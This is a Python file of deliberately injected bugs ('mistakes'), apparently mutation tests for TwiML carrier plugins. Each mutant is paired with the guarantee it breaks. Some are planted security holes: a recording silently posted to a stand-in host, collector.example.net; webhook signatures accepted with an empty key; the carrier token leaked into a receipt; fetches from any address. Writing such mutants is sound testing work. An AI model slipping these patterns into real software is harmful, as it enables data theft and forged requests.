"""Mistakes in plugins for carriers that speak TwiML, in the file of `hub new-plugin`."""

from __future__ import annotations

from mistaken_plugins import Mistake, mistake

INIT = "__init__.py"

FETCH = '        answer = self._ask("GET", f"/Recordings/{sid}.wav")\n'
CREATE = '            answer = self._ask("POST", path, data=form, once=True)\n'
TWIML: tuple[Mistake, ...] = (
    mistake(
        "a recording from any address",
        (INIT, "            address_at(url, self.origins(), TITLE)\n", ""),
        (INIT, FETCH, "        answer = self.services.http().get(url)\n"),
        promise="A recording comes from the carrier only",
        says="fetch_recording ended in RetryLater: Tame Carrier did not return audio.",
    ),
    mistake(
        "a recording from any address, and the refusal is swallowed",
        (
            INIT,
            "            address_at(url, self.origins(), TITLE)\n",
            "            try:\n                self.services.http().get(url)\n            except Exception:\n                pass\n",
        ),
        promise="A recording comes from the carrier only",
        says="it tried to call , which its manifest does not declare",
    ),
    mistake(
        "a recording goes to another host too",
        (
            INIT,
            FETCH,
            FETCH
            + "        try:\n            self.services.http().post('https://collector.example.net/', content=answer.content)\n        except Exception:\n            pass\n",
        ),
        promise="A recording is what was spoken",
        says="it tried to call collector.example.net, which its manifest does not declare",
    ),
    mistake(
        "two calls after a lost reply",
        (INIT, CREATE, "            try:\n    " + CREATE + "            except OutcomeUnknown:\n    " + CREATE),
        (INIT, "    Rejected,", "    OutcomeUnknown, Rejected,"),
        promise="Two phones ring once whatever becomes of the reply",
        says="times the call; raise OutcomeUnknown and leave it to the hub",
    ),
    mistake(
        "a call that may be placed twice",
        (INIT, ", once=True", ""),
        promise="A call whose reply never comes is never placed twice",
        says="a server error: raise OutcomeUnknown, or the call may be placed twice",
    ),
    mistake(
        "the phones are swapped",
        (INIT, '"To": call.user_number', '"To": call.person_number'),
        promise="A call is placed once with the tracking number as its caller id",
        says="assert",
    ),
    mistake(
        "the caller id is the user's own number",
        (INIT, '"From": call.tracking_number', '"From": call.user_number'),
        promise="A call is placed once with the tracking number as its caller id",
        says="assert",
    ),
    mistake(
        "only the first page of calls",
        (INIT, "query = dict(parse_qsl(urlsplit(following).query)) if following else None", "query = None"),
        promise="Every page of the call list is read",
        says="calls are not listed: read every page",
    ),
    mistake(
        "recordings six hours early",
        (
            INIT,
            'moment(item.get("date_updated"), "date"),',
            'moment(item.get("date_updated"), "date") - timedelta(hours=6),',
        ),
        (INIT, "from datetime import datetime", "from datetime import datetime, timedelta"),
        promise="Each event has the time at which it happened (UTC)",
        says="is listed with recorded at",
    ),
    mistake(
        "a signature of another token is good",
        (INIT, "[self.settings.token.get_secret_value()]", '[self.settings.token.get_secret_value(), ""]'),
        promise="A signature with another key is refused",
        says="a webhook is taken that is signed with an empty key",
    ),
    mistake(
        "an odd body breaks the check",
        (
            INIT,
            "        except BadPayload as error:\n            raise BadSignature(str(error)) from error\n",
            "        except KeyError as error:\n            raise BadSignature(str(error)) from error\n",
        ),
        promise="Nonsense from strangers is refused",
        says="a webhook that is not genuine must end in BadSignature",
    ),
    mistake(
        "the token in a receipt",
        (
            INIT,
            "return receipt(key, TITLE, send,",
            'return receipt(key, f"{TITLE} {self.settings.token.get_secret_value()}", send,',
        ),
        promise="A text is never told of whatever the carrier does",
        says="after garbage, send_text tells",
    ),
    mistake(
        "a page of HTML is audio",
        (INIT, 'if not answer.headers.get("content-type", "").startswith("audio/"):', "if False:"),
        promise="An answer that is garbage is tried again",
        says="fetch_recording: an unreadable reply must become RetryLater, not a result",
    ),
    mistake(
        "the pictures of a text are lost",
        (INIT, ' | {"MediaUrl": list(text.media_urls)}', ""),
        promise="The pictures of a text go out with it",
        says="the carrier does not know the addresses",
    ),
)
